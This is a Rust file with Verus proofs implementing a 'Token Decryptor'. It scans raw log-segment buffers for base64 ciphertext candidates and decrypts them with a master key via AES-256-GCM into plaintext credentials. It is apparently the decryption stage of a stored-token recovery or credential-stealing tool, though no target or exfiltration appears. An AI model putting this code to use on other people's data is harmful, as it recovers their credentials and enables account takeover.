//! The Token Decryptor: authenticated decryption of scanned candidates into
//! plaintext credentials.

use crate::encoding::{b64_decode, b64_decode_of, utf8_of, utf8_string};
use crate::scanner::{candidates_of, find_candidates};
use aes_gcm::aead::{Aead, KeyInit};
use aes_gcm::{Aes256Gcm, Nonce};
use vstd::prelude::*;
use vstd::slice::slice_subrange;

verus! {

/// What authenticated decryption under the 256-bit-key, twelve-byte-nonce GCM
/// construction returns: the plaintext, or `None` when the ciphertext or its
/// authentication tag does not verify under `key` and `nonce`.
pub uninterp spec fn aead_open(key: Seq<u8>, nonce: Seq<u8>, data: Seq<u8>) -> Option<Seq<u8>>;

/// Relies on aes_gcm's `Aes256Gcm::new_from_slice` and `Aead::decrypt`: the
/// result is a function of key, nonce and ciphertext alone, and a tampered or
/// truncated input is reported as an error, never a panic.
#[verifier::external_body]
fn aes256_gcm_open(key: &[u8], nonce: &[u8], data: &[u8]) -> (r: Option<Vec<u8>>)
    requires
        key@.len() == 32,
        nonce@.len() == 12,
    ensures
        match r {
            Some(v) => aead_open(key@, nonce@, data@) == Some(v@),
            None => aead_open(key@, nonce@, data@) is None,
        },
{
    let cipher = match Aes256Gcm::new_from_slice(key) {
        Ok(c) => c,
        Err(_) => return None,
    };
    cipher.decrypt(Nonce::from_slice(nonce), data).ok()
}

/// The Token Decryptor's result on the decoded candidate bytes `enc` under
/// `key`: `enc` must hold a three-byte version tag, a twelve-byte nonce and
/// the ciphertext with its authentication tag, and the decrypted bytes must be
/// valid UTF-8. Every failure is a silent skip (`None`), never an error, since
/// scanning an unstructured blob over-matches by design.
pub open spec fn spec_decrypt_token(enc: Seq<u8>, key: Seq<u8>) -> Option<Seq<char>> {
    if key.len() != 32 || enc.len() < 15 {
        None
    } else {
        match aead_open(key, enc.subrange(3, 15), enc.skip(15)) {
            Some(pt) => utf8_of(pt),
            None => None,
        }
    }
}

/// Decrypts one base64-decoded ciphertext candidate with the master key,
/// yielding the plaintext credential or skipping the candidate.
pub fn decrypt_token(encrypted_data: &[u8], key: &[u8]) -> (r: Option<String>)
    ensures
        match r {
            Some(s) => spec_decrypt_token(encrypted_data@, key@) == Some(s@),
            None => spec_decrypt_token(encrypted_data@, key@) is None,
        },
{
    if key.len() != 32 || encrypted_data.len() < 15 {
        return None;
    }
    let nonce = slice_subrange(encrypted_data, 3, 15);
    let ciphertext = slice_subrange(encrypted_data, 15, encrypted_data.len());
    assert(ciphertext@ =~= encrypted_data@.skip(15));
    match aes256_gcm_open(key, nonce, ciphertext) {
        Some(pt) => utf8_string(pt),
        None => None,
    }
}

/// The Token Decryptor's result on one still-base64-encoded candidate.
pub open spec fn spec_candidate_token(cand: Seq<u8>, key: Seq<u8>) -> Option<Seq<char>> {
    match b64_decode_of(cand) {
        Some(enc) => spec_decrypt_token(enc, key),
        None => None,
    }
}

/// The credentials recovered from a list of candidates, in order, keeping
/// every candidate that base64-decodes, decrypts and is valid UTF-8.
pub open spec fn tokens_from(cands: Seq<Seq<u8>>, key: Seq<u8>) -> Seq<Seq<char>>
    decreases cands.len(),
{
    if cands.len() == 0 {
        Seq::empty()
    } else {
        let rest = tokens_from(cands.drop_first(), key);
        match spec_candidate_token(cands.first(), key) {
            Some(t) => seq![t] + rest,
            None => rest,
        }
    }
}

/// The Token Decryptor skips whatever fails authentication: when the cipher
/// rejects a candidate's payload — as it does for a tampered ciphertext or
/// tag — the candidate yields nothing, and no failure propagates past the
/// candidate boundary.
pub proof fn lemma_auth_failure_skips(enc: Seq<u8>, key: Seq<u8>)
    requires
        enc.len() >= 15 ==> aead_open(key, enc.subrange(3, 15), enc.skip(15)) is None,
    ensures
        spec_decrypt_token(enc, key) is None,
{
}

/// A failing candidate never aborts the rest: removing a candidate that
/// decrypts to nothing leaves the recovered credentials unchanged.
pub proof fn lemma_candidate_isolation(cands: Seq<Seq<u8>>, key: Seq<u8>, i: int)
    requires
        0 <= i < cands.len(),
        spec_candidate_token(cands[i], key) is None,
    ensures
        tokens_from(cands, key) == tokens_from(cands.remove(i), key),
    decreases cands.len(),
{
    if i == 0 {
        assert(cands.remove(0) =~= cands.drop_first());
    } else {
        lemma_candidate_isolation(cands.drop_first(), key, i - 1);
        assert(cands.remove(i).len() > 0);
        assert(cands.remove(i).first() == cands.first());
        assert(cands.remove(i).drop_first() =~= cands.drop_first().remove(i - 1));
    }
}

/// Every credential recoverable from one raw log-segment buffer under `key`.
pub open spec fn spec_find_tokens(data: Seq<u8>, key: Seq<u8>) -> Seq<Seq<char>> {
    tokens_from(candidates_of(data), key)
}

/// Scans one raw log-segment buffer for tagged ciphertext candidates and
/// decrypts each with the master key; candidates that fail to decode, decrypt
/// or parse as UTF-8 are skipped, never an error.
pub fn find_and_decrypt_tokens(data: &[u8], master_key: &[u8]) -> (r: Vec<String>)
    ensures
        r.deep_view() == spec_find_tokens(data@, master_key@),
{
    let cands = find_candidates(data);
    let mut res: Vec<String> = Vec::new();
    let mut idx: usize = 0;
    proof {
        assert(cands.deep_view().skip(0) =~~= cands.deep_view());
    }
    while idx < cands.len()
        invariant
            idx <= cands.len(),
            cands.deep_view() == candidates_of(data@),
            res.deep_view() + tokens_from(cands.deep_view().skip(idx as int), master_key@)
                =~~= spec_find_tokens(data@, master_key@),
        decreases cands.len() - idx,
    {
        let ghost remaining = cands.deep_view().skip(idx as int);
        proof {
            assert(remaining.len() > 0);
            assert(remaining.first() == cands.deep_view()[idx as int]);
            assert(remaining.drop_first() =~~= cands.deep_view().skip(idx as int + 1));
        }
        let cand: &Vec<u8> = &cands[idx];
        assert(cand@ == cands.deep_view()[idx as int]);
        let token = match b64_decode(cand.as_slice()) {
            Some(enc) => decrypt_token(enc.as_slice(), master_key),
            None => None,
        };
        match token {
            Some(t) => {
                let ghost old_res = res.deep_view();
                proof {
                    assert(spec_candidate_token(remaining.first(), master_key@) is Some);
                }
                res.push(t);
                proof {
                    assert(res.deep_view() =~~= old_res.push(t@));
                    assert(res.deep_view() + tokens_from(remaining.drop_first(), master_key@)
                        =~~= old_res + tokens_from(remaining, master_key@));
                }
            },
            None => {
                proof {
                    assert(spec_candidate_token(remaining.first(), master_key@) is None);
                    assert(tokens_from(remaining, master_key@) == tokens_from(
                        remaining.drop_first(),
                        master_key@,
                    ));
                }
            },
        }
        idx = idx + 1;
    }
    assert(cands.deep_view().skip(idx as int) =~~= Seq::<Seq<u8>>::empty());
    assert(res.deep_view() =~~= spec_find_tokens(data@, master_key@));
    res
}

} // verus!
